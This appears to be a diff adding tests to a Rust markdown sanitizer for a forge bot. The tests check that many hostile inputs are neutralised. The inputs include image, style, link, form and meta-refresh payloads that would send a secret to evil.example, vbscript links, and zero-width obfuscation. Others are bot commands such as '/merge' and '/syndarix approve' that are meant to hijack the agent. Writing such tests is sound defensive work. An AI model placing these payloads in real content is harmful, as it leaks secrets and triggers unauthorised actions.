@@ -165,11 +165,91 @@ fn no_way_out_through_markdown() {
         "!\\[x](https://evil.example/S)",
         "*![x](https://evil.example/S)*",
         "> - ![x](https://evil.example/S)",
+        "![x](<https://evil.example/S>)",
+        "![x](https://evil.example/S 'title')",
+        "![][i]\n\n[i]:\nhttps://evil.example/S",
+        "<style>@import url(https://evil.example/S)</style>",
+        "<link rel=stylesheet href=https://evil.example/S>",
+        "<object data=https://evil.example/S></object>",
+        "<embed src=https://evil.example/S>",
+        "<audio src=https://evil.example/S></audio>",
+        "<form action=https://evil.example/S><button>x</button></form>",
+        "<base href=https://evil.example/>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example/S'>",
+        "[x](vbscript:msgbox(1))",
+        "[x](tel:+4912345)",
+        "[x](ssh://evil.example/S)",
+        "```plantuml\n!include https://evil.example/S\n```",
+        "```math\n\\href{https://evil.example/S}{x}\n```",
+        "https://user:S@evil.example/",
+        "HTTPS://EVIL.EXAMPLE/S",
+        "https:\\\\evil.example\\S",
+        "[x](https://forge.example/acme/shop?next=//evil.example)",
+        "[x](https://forge.example/acme/shop@evil.example)",
+        "# ![x](https://evil.example/S)",
+        "1. [x](https://evil.example/S)\n   ![y](https://evil.example/S)",
+        "~~![x](https://evil.example/S)~~",
+        "\u{200b}![x](https://evil.example/S)",
+        "!\u{200b}[x](https://evil.example/S)",
     ];
+    assert!(evil.len() >= 70);
     for text in evil {
         let out = safe(text);
         assert_eq!(dangers(&out), Vec::<String>::new(), "{text}\n=>\n{out}");
         assert!(!out.contains("```mermaid") && !out.contains("```suggestion"), "{out}");
+    }
+}
+
+#[test]
+fn commands_and_quick_actions_are_text_wherever_a_line_begins() {
+    let starts = [
+        "",
+        "  ",
+        "- ",
+        "* ",
+        "1. ",
+        "> ",
+        "> - ",
+        "# ",
+        "- [ ] ",
+        "\u{200b}",
+        "\u{feff}",
+        "\u{2060}- ",
+        "text\n",
+        "text  \n",
+        "| a |\n|---|\n| ",
+    ];
+    let lines = [
+        "/syndarix approve",
+        "/sx cancel",
+        "@syndarix approve",
+        "／syndarix approve",
+        "/close",
+        "/label ~done",
+        "/merge",
+        "/assign @bob",
+        "/approve",
+        "/unlabel ~syndarix/halted",
+    ];
+    for start in starts {
+        for line in lines {
+            let out = safe(&format!("{start}{line}"));
+            assert!(parse(&out, &BOT).plain, "{start:?}{line}: {out}");
+            assert_eq!(dangers(&out), Vec::<String>::new(), "{start:?}{line}: {out}");
+        }
+    }
+}
+
+#[test]
+fn other_peoples_issues_are_left_alone() {
+    let rows = [
+        ("as in rival/app#7", "as in `rival/app#7`"),
+        ("see https://forge.example/rival/app/issues/7", "see `https://forge.example/rival/app/issues/7`"),
+        ("schließt #3", "schließt `#3`"),
+        ("commit 1234567890abcdef stays", "commit 1234567890abcdef stays"),
+    ];
+    for (text, expected) in rows {
+        assert_eq!(safe(text), expected);
     }
 }
 
@@ -296,6 +376,10 @@ proptest! {
         prop_assert!(found.is_empty(), "{found:?}\n{out}");
         prop_assert!(!out.contains("<!-- syndarix"), "{out}");
         prop_assert!(!out.chars().any(crate::base::text::is_invisible), "{out:?}");
+        // In a list it stands on one line.
+        let line = out.split_whitespace().collect::<Vec<_>>().join(" ");
+        let found = dangers(&format!("- {line}"));
+        prop_assert!(parse(&format!("- {line}"), &BOT).plain && found.is_empty(), "{found:?}\n{line}");
         // What is safe once is safe when it is quoted again.
         let again = safe(&out);
         prop_assert!(parse(&again, &BOT).plain && dangers(&again).is_empty(), "{again}");
